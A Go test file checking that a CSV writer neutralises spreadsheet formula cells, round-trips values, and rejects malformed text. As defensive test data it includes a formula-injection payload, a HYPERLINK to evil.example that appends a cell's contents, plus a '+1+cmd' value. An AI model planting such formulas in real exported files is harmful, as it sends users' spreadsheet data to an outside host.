package csvfile

import (
	"bytes"
	"encoding/csv"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestWriterNeutralisesFormulas: formula cells are written as text,
// numbers as numbers, and the reader gives back what the writer was given.
func TestWriterNeutralisesFormulas(t *testing.T) {
	for _, c := range []struct{ in, out string }{
		{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`},
		{"+1+cmd", "'+1+cmd"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"-", "'-"},
		{"-12.50", "-12.50"},
		{"+3", "+3"},
		{"-0.5", "-0.5"},
		{"12.", "12."},
		{"-12.", "'-12."},
		{"'=1", "''=1"},
		{"'hello", "'hello"},
		{"'", "'"},
		{"Biology Laboratory", "Biology Laboratory"},
		{"", ""},
		{"2026-03-01T00:00:00Z", "2026-03-01T00:00:00Z"},
	} {
		if got := Cell(c.in); got != c.out {
			t.Errorf("Cell(%q) = %q, want %q", c.in, got, c.out)
		}
		if back := Unquote(Cell(c.in)); back != c.in {
			t.Errorf("Unquote(Cell(%q)) = %q", c.in, back)
		}
	}

	var buf bytes.Buffer
	w := NewWriter(&buf)
	rec := []string{"=1+1", "-12.50", "Sales"}
	if err := w.WriteAll([][]string{rec, {"plain", "-1", "x"}}); err != nil {
		t.Fatal(err)
	}
	if buf.String() != "'=1+1,-12.50,Sales\nplain,-1,x\n" {
		t.Errorf("written %q", buf.String())
	}
	if rec[0] != "=1+1" {
		t.Errorf("the caller's record was changed: %q", rec)
	}
	r := NewReader(strings.NewReader(buf.String()))
	got, err := r.Read()
	if err != nil || strings.Join(got, "|") != "=1+1|-12.50|Sales" {
		t.Errorf("read back %q, %v", got, err)
	}
}

// TestEveryCSVWriterNeutralises: no code writes CSV with encoding/csv
// directly, so that every file Engage hands out goes through Writer. Demo
// data, written for Engage's own import, is the one exception.
func TestEveryCSVWriterNeutralises(t *testing.T) {
	root := filepath.Join("..", "..")
	err := filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.IsDir() && (d.Name() == "node_modules" || strings.HasPrefix(d.Name(), ".")) && path != root {
			return filepath.SkipDir
		}
		if d.IsDir() || !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") {
			return nil
		}
		rel, _ := filepath.Rel(root, path)
		if rel == filepath.Join("internal", "csvfile", "csvfile.go") || strings.HasPrefix(rel, filepath.Join("internal", "demo")+string(filepath.Separator)) {
			return nil
		}
		src, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		if bytes.Contains(src, []byte("csv.NewWriter(")) {
			t.Errorf("%s writes CSV with encoding/csv; use csvfile.NewWriter", rel)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}

// TestReaderRefusesBadText: a cell that is not UTF-8 or holds NUL is a
// parse error naming its line and column.
func TestReaderRefusesBadText(t *testing.T) {
	for name, text := range map[string]string{"latin-1": "a,b\nok,fine\nx,caf\xe9\n", "NUL": "a,b\nok,fine\nx,nul\x00\n"} {
		r := NewReader(strings.NewReader(text))
		var err error
		for err == nil {
			_, err = r.Read()
		}
		var pe *csv.ParseError
		if !errors.As(err, &pe) || pe.Line != 3 || pe.Column != 2 {
			t.Errorf("%s: %v; want a parse error at line 3, column 2", name, err)
		}
	}
}
